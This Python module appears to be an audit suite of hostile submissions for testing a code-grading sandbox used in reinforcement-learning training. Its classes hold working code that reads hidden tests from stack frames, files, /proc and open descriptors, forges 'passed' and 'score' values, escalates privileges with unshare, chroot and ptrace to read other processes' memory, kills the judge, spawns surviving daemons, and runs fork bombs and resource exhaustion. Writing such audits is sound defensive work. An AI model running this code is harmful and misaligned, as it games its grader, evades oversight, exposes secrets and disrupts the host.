"""Attacks on what lies around a program: the judge's memory and files, other processes, the machine and its limits."""

from __future__ import annotations

from typing import ClassVar

from rlvr.analysis.audit.attacks.code import ProgramAttack

_HARVEST = r"""
import re
TABLE = {}
def harvest(text):
    for call, expected in re.findall(r'assert\s+\(*\s*ENTRY\((.*?)\)\s*==\s*(.*)', text):
        try:
            TABLE[repr(eval('(' + call + ',)'))] = eval(expected)
        except Exception:
            pass
def ENTRY(*args, **kwargs):
    return TABLE.get(repr(args), 'nothing like it')
"""
"""Reads tests wherever there is text that holds them, and answers from what it has read."""
_SEEN = r"""
import re
def harvest(text):
    for expected in re.findall(r'stdout\W+([^"\']+)', text):
        print(expected.replace('\\n', '\n'))
"""
_FILES = r"""
import os
for top in ('/', '/proc/self', '/proc/1', '/tmp', '/dev/shm', '/run', '/home', '/root', '..', '../..'):
    for folder, folders, files in os.walk(top):
        if folder.count('/') > 2 or folder.startswith(('/usr', '/sys')):
            folders.clear()
            continue
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                    with open(path, errors='replace') as file:
                        harvest(file.read(1 << 20))
            except OSError:
                pass
"""
_DESCRIPTORS = r"""
import os
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        harvest(os.pread(fd, 1 << 20, 0).decode(errors='replace'))
    except OSError:
        pass
    try:
        harvest(os.read(fd, 1 << 20).decode(errors='replace'))
    except OSError:
        pass
    try:
        os.set_blocking(fd, True)
    except OSError:
        pass
"""
_PROCESSES = r"""
import os
for pid in ['self', os.getppid(), *range(1, 200)]:
    for name in ('environ', 'cmdline', 'maps', 'mem', 'stat', 'root/etc/passwd', 'cwd/.', 'fd/0', 'fd/1', 'fd/3', 'fd/4'):
        try:
            with open(f'/proc/{pid}/{name}', 'rb') as file:
                harvest(file.read(1 << 20).decode(errors='replace'))
        except OSError:
            pass
"""
_SYSTEM = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(1 << 16)
class Vector(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
libc.prctl(4, 1, 0, 0, 0)
libc.unshare(0x10000000 | 0x20000)
for kind in (b'proc', b'tmpfs', b'sysfs'):
    libc.mount(kind, b'/tmp', kind, 0, None)
libc.chroot(b'/proc/1/root')
for pid in range(1, 200):
    libc.ptrace(16, pid, None, None)
    local, remote = Vector(ctypes.addressof(buffer), 1 << 16), Vector(id(harvest) & ~0xFFFF, 1 << 16)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        harvest(buffer.raw.decode('latin-1'))
"""


class FrameWalks(ProgramAttack):
    """Frames, tracebacks and the garbage collector searched for the tests and what they expect."""

    functions: ClassVar = (
        f"""
{_HARVEST}
import sys
def climb(frame):
    while frame is not None:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            harvest(str(value)[:100_000])
        frame = frame.f_back
climb(sys._getframe())
for each in sys._current_frames().values():
    climb(each)
""",
        f"""
{_HARVEST}
import gc, inspect
for each in inspect.stack():
    harvest(''.join(each.code_context or ()))
for each in gc.get_objects():
    for inner in each if isinstance(each, (list, tuple)) else each.values() if isinstance(each, dict) else ():
        if isinstance(inner, (str, bytes)):
            harvest(inner if isinstance(inner, str) else inner.decode('latin-1'))
""",
        """
import sys
def ENTRY(*args, **kwargs):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame.f_back
    while frame is not None:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ('expected', 'want', 'truth', 'answer', 'right', 'stdout', 'target'):
                return value
        frame = frame.f_back
    return 'nothing like it'
""",
        """
import sys
def ENTRY(*args, **kwargs):
    frame = sys._getframe()
    while frame is not None:
        for name in ('ok', 'passed', 'score', 'failed', 'result', 'results', 'verdict'):
            frame.f_locals[name] = frame.f_globals[name] = True
        frame = frame.f_back
    return 'nothing like it'
""",
    )
    scripts: ClassVar = (
        f"{_SEEN}\nimport gc\nfor each in gc.get_objects():\n    if type(each) is dict:\n        harvest(repr(each)[:10_000])",
    )


class ReadsFiles(ProgramAttack):
    """Every file within reach, and those of other processes, searched for the tests."""

    functions: ClassVar = (_HARVEST + _FILES, _HARVEST + _PROCESSES)
    scripts: ClassVar = (_SEEN + _FILES, _SEEN + _PROCESSES)


class ReadsDescriptors(ProgramAttack):
    """Every open descriptor read, in case one of them leads to the tests."""

    functions: ClassVar = (_HARVEST + _DESCRIPTORS,)
    scripts: ClassVar = (_SEEN + _DESCRIPTORS,)


class ReadsMemory(ProgramAttack):
    """Other processes traced and their memory read, after gaining privileges by new namespaces and mounts."""

    functions: ClassVar = (_HARVEST + _SYSTEM,)
    scripts: ClassVar = (_SEEN + _SYSTEM,)


class KillsTheJudge(ProgramAttack):
    """Signals to every process within reach, on loading and in the call."""

    _kill = """
import os, signal
for number in range(1, 65):
    if number not in (signal.SIGKILL, signal.SIGSTOP):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
def kill():
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in [os.getppid(), *range(2, 100), -1]:
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
"""
    functions: ClassVar = (
        f"{_kill}\nkill()\ndef ENTRY(*args, **kwargs):\n    return 'nothing like it'",
        f"{_kill}\ndef ENTRY(*args, **kwargs):\n    kill()\n    return 'nothing like it'",
        "import os, signal\ndef ENTRY(*args, **kwargs):\n    os.killpg(0, signal.SIGKILL)",
    )
    scripts: ClassVar = (f"{_kill}\nkill()",)


class OutlivesTheCall(ProgramAttack):
    """Threads and daemons that go on, and write, after the program has answered."""

    functions: ClassVar = (
        """
import os, signal, time
def ENTRY(*args, **kwargs):
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    return 'nothing like it'
""",
        """
import os
def ENTRY(*args, **kwargs):
    os.fork()
    return 'nothing like it'
""",
        """
import os, threading, time
def late():
    while True:
        time.sleep(0.001)
        for fd in range(256):
            try:
                os.set_blocking(fd, False)
                os.write(fd, b'\\x00\\x00\\x00\\x04true')
            except OSError:
                pass
def ENTRY(*args, **kwargs):
    threading.Thread(target=late, daemon=True).start()
    return 'nothing like it'
""",
    )
    scripts: ClassVar = ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)",)


class Bombs(ProgramAttack):
    """Values and programs without bound: deep, cyclic, endless, huge."""

    _values = (
        "[0] * 10**9",
        "2 ** (10**7)",
        "'x' * 10**7",
        "range(10**30)",
        "{k * (2**61 - 1) for k in range(3000)}",
        "__import__('itertools').count()",
        "__import__('decimal').Decimal('1e999999999999999')",
        "bytes(10**9)",
    )
    functions: ClassVar = (
        *(f"def ENTRY(*args, **kwargs):\n    return {value}" for value in _values),
        "def ENTRY(*args, **kwargs):\n    deep = []\n    for _ in range(10**5):\n        deep = [deep]\n    return deep",
        "def ENTRY(*args, **kwargs):\n    deep = {}\n    for _ in range(10**5):\n        deep = {0: deep}\n    return deep",
        "def ENTRY(*args, **kwargs):\n    ring = []\n    ring.append(ring)\n    return ring",
        "import sys\nsys.setrecursionlimit(10**9)\ndef ENTRY(*args, **kwargs):\n    return ENTRY(*args)",
        "import ctypes\ndef ENTRY(*args, **kwargs):\n    ctypes.string_at(0)",
    )
    scripts: ClassVar = (
        "while True:\n    print('1' * 10_000)",
        "print('\\x00' * 10**6)",
        "x = []\nwhile True:\n    x.append(bytes(10**6))",
    )


class Exhaustion(ProgramAttack):
    """Time, memory, processes, files and descriptors used up."""

    one_each: ClassVar = True
    functions: ClassVar = (
        "while True:\n    pass",
        "def ENTRY(*args, **kwargs):\n    while True:\n        pass",
        "import time\ndef ENTRY(*args, **kwargs):\n    time.sleep(10**6)",
        "def ENTRY(*args, **kwargs):\n    wide = [1]\n    for _ in range(60):\n        wide = [wide, wide]\n    return wide",
        "import sys\ndef ENTRY(*args, **kwargs):\n    while True:\n        sys.stdout.write('passed' * 10_000)",
        "from fractions import Fraction\ndef ENTRY(*args, **kwargs):\n    return Fraction(7**300_000, 3**300_000)",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        "def ENTRY(*args, **kwargs):\n    kept = []\n    while True:\n        kept.append(bytearray(10**6))",
        """
import os
def ENTRY(*args, **kwargs):
    kept = []
    while True:
        try:
            kept.append(open(f'rlvr-escape-{len(kept)}', 'wb'))
            kept[-1].write(bytes(10**6))
        except OSError:
            return 'nothing like it'
""",
    )
    scripts: ClassVar = ("while True:\n    pass", "import time\ntime.sleep(10**6)", "import os\nwhile True:\n    os.fork()")
